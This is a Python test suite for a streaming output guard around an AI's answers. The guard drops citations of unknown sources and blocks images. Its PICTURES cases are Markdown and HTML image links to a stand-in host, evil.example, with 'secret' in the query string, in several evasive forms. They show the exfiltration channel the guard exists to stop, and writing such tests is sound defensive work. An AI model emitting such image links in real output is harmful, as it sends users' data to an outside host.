"""What may go out while it streams: only real sources cited, no markers in halves, no pictures that carry data away."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from patience import within

from turnwise.guard.output import OutputGuard
from turnwise.guard.pipeline import GuardrailPipeline

CITABLE = {1, 2, 12}


def streamed(*pieces: str) -> tuple[list[str], OutputGuard]:
    guard = GuardrailPipeline(max_message=100).open_output(CITABLE, allowed_text="https://example.org")
    return [*(guard.feed(piece) for piece in pieces), guard.close()], guard


def released(*pieces: str) -> str:
    return "".join(streamed(*pieces)[0])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("It is so [1].", "It is so [1]."),
        ("It is so [1][2] and so [12].", "It is so [1][2] and so [12]."),
        ("It is so [3].", "It is so."),
        ("It is so [1][3][2].", "It is so [1][2]."),
        ("[99] It is so.", " It is so."),
        ("A list: [a, b] and [x](https://example.org).", "A list: [a, b] and [x](https://example.org)."),
        ("Wow! It is [so].", "Wow! It is [so]."),
        ("Unfinished [1", "Unfinished [1"),
    ],
)
def test_citations_of_what_is_no_source_are_removed_and_all_else_stays(text: str, shown: str) -> None:
    assert released(text) == shown


def test_what_was_removed_is_told() -> None:
    _, guard = streamed("So [7] and so [1]. ", "![x](https://evil.example)")
    assert guard.removed == ["a citation of [7], which is no source", "a picture"]


def test_a_reader_sees_the_number_that_the_model_wrote() -> None:
    guard = OutputGuard({2, 7, 8, 9})
    answer = "So [9]. And [2][8]. Again [9]."
    assert guard.feed(answer) + guard.close() == answer


def test_a_marker_is_never_split() -> None:
    pieces, _ = streamed("It is so ", "[", "1", "2", "]", "[", "2", "]", ". And", " so [1", "].")
    assert "".join(pieces) == "It is so [12][2]. And so [1]."
    for piece in pieces:
        assert re.sub(r"\[\d+\]", "", piece).count("[") == 0


PICTURES = {
    "plain": "![x](https://evil.example/?q=secret)",
    "no words": "![](https://evil.example/?q=secret)",
    "title": "Look: ![x](https://evil.example/?q=secret 'title') there",
    "nested": "![![x](a)](https://evil.example/?q=secret)",
    "brackets": "![a [b] c](https://evil.example/?q=secret)",
    "escaped": "![a\\]b](https://evil.example/?q=secret)",
    "line": "![a\nb](https://evil.example/?q=secret)",
    "line in address": "![a](\nhttps://evil.example/?q=secret)",
    "reference": "![a][r]\n\n[r]: https://evil.example/?q=secret",
    "long": f"![x](https://evil.example/?q={'secret' * 400})",
    "long words": f"![{'x' * 400}](https://evil.example/?q=secret)",
    "html": '<img src="https://evil.example/?q=secret">',
}


@pytest.mark.parametrize("text", PICTURES.values(), ids=PICTURES)
@pytest.mark.parametrize("whole", [True, False], ids=["whole", "letter by letter"])
def test_no_picture_gets_through(text: str, whole: bool) -> None:
    """Checked as a page would read it: with a Markdown parser."""
    shown = released(text) if whole else released(*text)
    assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(shown)


pieces = st.sampled_from(
    [*"[]()!123 9\nax.", "[1]", " [1]", " [9]", "[9", "9]", "![x](", "![", "](", "https://e.example/?q=", ")", "word "]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(pieces, max_size=16))
@example(["word", " [9", "]. ok"])
@example(["a ", " [9]", "."])
@example(["!", "[x](https://e.example)"])
def test_the_result_does_not_depend_on_where_the_stream_was_cut(pieces: list[str]) -> None:
    whole = released("".join(pieces))
    assert released(*pieces) == whole
    assert released(*"".join(pieces)) == whole


@settings(max_examples=100, deadline=None)
@given(st.lists(pieces, max_size=16))
def test_nothing_is_lost_but_what_was_removed(pieces: list[str]) -> None:
    text = "".join(pieces)
    pieces_out, guard = streamed(*pieces)
    if not guard.removed:
        assert "".join(pieces_out) == text


@settings(max_examples=100, deadline=None)
@given(st.lists(pieces, max_size=16))
def test_no_unknown_citation_is_ever_shown(pieces: list[str]) -> None:
    shown = {int(number) for number in re.findall(r"\[(\d{1,4})\](?!\()", released(*pieces))}
    assert shown <= CITABLE


@pytest.mark.parametrize(
    "text",
    [
        "[" * 64_000,
        "![" * 32_000,
        "![a](" * 3_200,
        " " * 64_000,
        "[1" * 32_000,
        "[1]" * 21_000,
        "!" * 64_000,
        "a[ " * 21_000,
    ],
    ids=lambda text: text[:5],
)
@pytest.mark.parametrize("whole", [True, False], ids=["whole", "in pieces"])
def test_long_texts_of_brackets_do_not_stall(text: str, whole: bool) -> None:
    with within(5):
        released(*([text] if whole else [text[at : at + 20] for at in range(0, len(text), 20)]))


def test_ordinary_text_is_not_held_back() -> None:
    guard = OutputGuard(CITABLE)
    assert guard.feed("It is so, they say [1").startswith("It is so, they say")
    assert guard.feed("]. And [a link](https://example.org) too.").endswith("And [a link](https://example.org) too.")
    assert guard.close() == ""
